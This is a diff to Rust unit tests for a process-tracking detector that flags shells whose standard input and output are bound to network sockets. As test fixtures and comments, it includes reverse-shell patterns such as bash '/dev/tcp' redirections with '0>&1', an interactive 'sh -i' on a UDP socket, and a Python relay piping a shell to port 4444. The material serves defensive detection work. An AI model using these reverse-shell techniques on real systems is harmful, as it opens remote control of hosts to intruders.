@@ -95,15 +95,170 @@ fn bash_dev_tcp_dup_binds_after_exec() {
     );
     assert_eq!(via(&t, 20), None);
     let sock = tcp(55, "127.0.0.1:50000", "127.0.0.1:4444");
-    // `>&` dups onto 1 and 2 first, then `0>&1`.
+    // `exec >& /dev/tcp/H/P 0>&1` in an interactive shell: 1 and 2 first, then `0>&1`.
     let a = t.apply(dup(2, 20, 1, sock.clone()));
-    assert_eq!(a.newly_bound, vec![20]);
-    let a = t.apply(dup(3, 20, 2, sock.clone()));
-    assert!(a.newly_bound.is_empty(), "already bound");
-    t.apply(dup(4, 20, 0, sock));
+    assert!(a.newly_bound.is_empty(), "stdout alone binds nothing");
+    assert_eq!(via(&t, 20), None);
+    t.apply(dup(3, 20, 2, sock.clone()));
+    let a = t.apply(dup(4, 20, 0, sock));
+    assert!(a.newly_bound.is_empty(), "pending until it runs something");
     assert_eq!(via(&t, 20), Some(BindVia::Dup));
-    t.apply(fork(5, 21, 20));
+    // The first command the peer sends confirms it.
+    let a = t.apply(fork(5, 21, 20));
+    assert_eq!(a.newly_bound, vec![20]);
     assert_eq!(origin(&t, 21), Some(20), "children inherit at fork");
+    let a = t.apply(fork(6, 22, 20));
+    assert!(a.newly_bound.is_empty(), "confirmed once");
+}
+
+/// `exec 3<>/dev/tcp/H/P; printf 'GET /health ...' >&3; read l <&3; cat <&3 >/dev/null`: the
+/// shell's own stdio is the socket only around builtins and just before it execs `cat`.
+#[test]
+fn builtin_redirections_and_exec_redirections_do_not_bind_the_shell() {
+    let mut t = table();
+    let pipe = fd(FdKind::Pipe, 70);
+    t.apply(
+        ExecBuilder::new(1, 60, 1, "/bin/bash")
+            .args(&["bash", "-c", "exec 3<>/dev/tcp/10.0.0.9/80; ..."])
+            .stdio(0, pipe.clone())
+            .stdio(1, pipe.clone())
+            .event(),
+    );
+    let sock = tcp(56, "10.0.0.5:40000", "10.0.0.9:80");
+    t.apply(connect(2, 60, 56, "10.0.0.5:40000", "10.0.0.9:80"));
+    // printf >&3 (saved fd 1 on fd 10, socket on 1, restored).
+    let a = t.apply(dup(3, 60, 1, sock.clone()));
+    assert!(a.newly_bound.is_empty());
+    t.apply(dup(4, 60, 1, pipe.clone()));
+    assert_eq!(via(&t, 60), None);
+    // read l <&3
+    t.apply(dup(5, 60, 0, sock.clone()));
+    assert!(t.get(60).unwrap().own_pending);
+    t.apply(dup(6, 60, 0, pipe.clone()));
+    assert_eq!(via(&t, 60), None);
+    assert!(!t.get(60).unwrap().own_pending);
+    // cat <&3 >/dev/null as the last command: redirect, then exec cat in place.
+    t.apply(dup(7, 60, 0, sock.clone()));
+    t.apply(dup(8, 60, 1, fd(FdKind::Char, 5)));
+    t.apply(
+        ExecBuilder::new(9, 60, 1, "/usr/bin/cat")
+            .stdio(0, sock)
+            .stdio(1, fd(FdKind::Char, 5))
+            .event(),
+    );
+    let p = t.get(60).unwrap();
+    assert!(!p.own_pending);
+    // cat reads the socket itself (the detector calls that a transfer).
+    assert_eq!(origin(&t, 60), Some(60));
+}
+
+#[test]
+fn a_shell_on_a_connected_udp_socket_is_bound() {
+    let mut t = table();
+    let sock = udp(57, "127.0.0.1:50001", "127.0.0.1:5353");
+    t.apply(
+        ExecBuilder::new(1, 65, 1, "/bin/sh")
+            .args(&["sh", "-i"])
+            .stdio(0, sock.clone())
+            .stdio(1, sock.clone())
+            .stdio(2, sock)
+            .event(),
+    );
+    let b = t.get(65).unwrap().binding().unwrap().clone();
+    assert_eq!(b.via, BindVia::Stdio);
+    assert_eq!(b.socket.protocol, ward_event::Protocol::Udp);
+    assert_eq!(b.socket.remote_port, 5353);
+}
+
+fn python_relay(t: &mut ProcessTable, connect_first: bool, shell_args: &[&str]) -> Applied {
+    t.apply(
+        ExecBuilder::new(1, 70, 1, "/usr/bin/python3")
+            .args(&["python3", "relay.py"])
+            .container(C, "web", "img")
+            .event(),
+    );
+    let mut applied = Applied::default();
+    if connect_first {
+        applied = t.apply(connect(2, 70, 91, "10.0.0.5:40000", "10.0.0.9:4444"));
+        assert!(applied.newly_bound.is_empty());
+    }
+    t.apply(fork(3, 71, 70));
+    let a = t.apply(
+        ExecBuilder::new(4, 71, 70, "/bin/sh")
+            .args(shell_args)
+            .stdio(0, fd(FdKind::Pipe, 92))
+            .stdio(1, fd(FdKind::Pipe, 93))
+            .stdio(2, fd(FdKind::Pipe, 93))
+            .stdin_writer(70)
+            .container(C, "web", "img")
+            .event(),
+    );
+    assert!(a.newly_bound.is_empty());
+    if !connect_first {
+        applied = t.apply(connect(5, 70, 91, "10.0.0.5:40000", "10.0.0.9:4444"));
+    }
+    applied
+}
+
+#[test]
+fn interpreter_relay_binds_an_interactive_shell_on_its_pipe_in_either_order() {
+    for connect_first in [true, false] {
+        let mut t = table();
+        let a = python_relay(&mut t, connect_first, &["/bin/sh"]);
+        let b = t.get(71).unwrap().binding().unwrap().clone();
+        assert_eq!(b.via, BindVia::PipeWriter, "connect first: {connect_first}");
+        assert_eq!(b.origin_pid, 70);
+        assert_eq!(b.origin_program, "python3");
+        assert_eq!(b.socket.remote_port, 4444);
+        assert!(t.get(71).unwrap().bound_by_pipe);
+        if !connect_first {
+            assert_eq!(a.newly_bound, vec![71]);
+        }
+        // What the shell runs inherits it.
+        t.apply(fork(6, 72, 71));
+        assert_eq!(origin(&t, 72), Some(70));
+    }
+}
+
+#[test]
+fn relay_pipes_into_non_interactive_shells_and_other_programs_bind_nothing() {
+    for connect_first in [true, false] {
+        // node `exec("ls")` = `/bin/sh -c ls` on pipes from a server holding connections.
+        let mut t = table();
+        let a = python_relay(&mut t, connect_first, &["/bin/sh", "-c", "ls"]);
+        assert!(a.newly_bound.is_empty());
+        assert_eq!(via(&t, 71), None);
+        let mut t = table();
+        python_relay(&mut t, connect_first, &["sh", "/app/job.sh"]);
+        assert_eq!(via(&t, 71), None);
+    }
+    // A non-shell on the pipe (a worker process fed by its server).
+    let mut t = table();
+    t.apply(ExecBuilder::new(1, 75, 1, "/usr/bin/node").event());
+    t.apply(connect(2, 75, 91, "10.0.0.5:40000", "10.0.0.9:443"));
+    t.apply(fork(3, 76, 75));
+    t.apply(
+        ExecBuilder::new(4, 76, 75, "/usr/bin/convert")
+            .stdio(0, fd(FdKind::Pipe, 92))
+            .stdin_writer(75)
+            .event(),
+    );
+    assert_eq!(via(&t, 76), None);
+}
+
+#[test]
+fn a_pipe_writer_in_another_container_binds_nothing() {
+    let mut t = table();
+    t.apply(ExecBuilder::new(1, 77, 1, "/usr/bin/python3").event());
+    t.apply(connect(2, 77, 91, "10.0.0.5:40000", "10.0.0.9:4444"));
+    t.apply(
+        ExecBuilder::new(3, 78, 77, "/bin/sh")
+            .stdio(0, fd(FdKind::Pipe, 92))
+            .stdin_writer(77)
+            .container(C, "web", "img")
+            .event(),
+    );
+    assert_eq!(via(&t, 78), None);
 }
 
 #[test]
